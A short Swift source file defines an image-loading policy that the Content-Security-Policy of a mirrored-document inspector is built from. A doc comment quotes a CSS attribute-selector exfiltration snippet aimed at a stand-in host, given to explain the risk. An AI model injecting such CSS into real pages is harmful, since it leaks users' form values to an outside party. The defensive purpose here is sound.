/// Which images of other hosts a mirrored document may load while the inspector shows it in a
/// frame. The option `--page-images` chooses a policy. ``DocumentPage`` writes it into the
/// `Content-Security-Policy` of the document.
///
/// An image is a request, so a page that loads images can reveal its content: a style such as
/// `input[value^="a"] { background: url(https://evil.test/a) }` requests a different address for
/// each value.
package enum ImagePolicy: String, Sendable, CaseIterable {
  case none
  /// Images of any host, with `https:`. The mirror itself uses `http:`, so no image is a request to
  /// the mirror.
  case https

  /// The sources for a `Content-Security-Policy`. Images inside of the document (`data:`) are
  /// always shown.
  var sources: String {
    switch self {
    case .none: "data:"
    case .https: "https: data:"
    }
  }
}
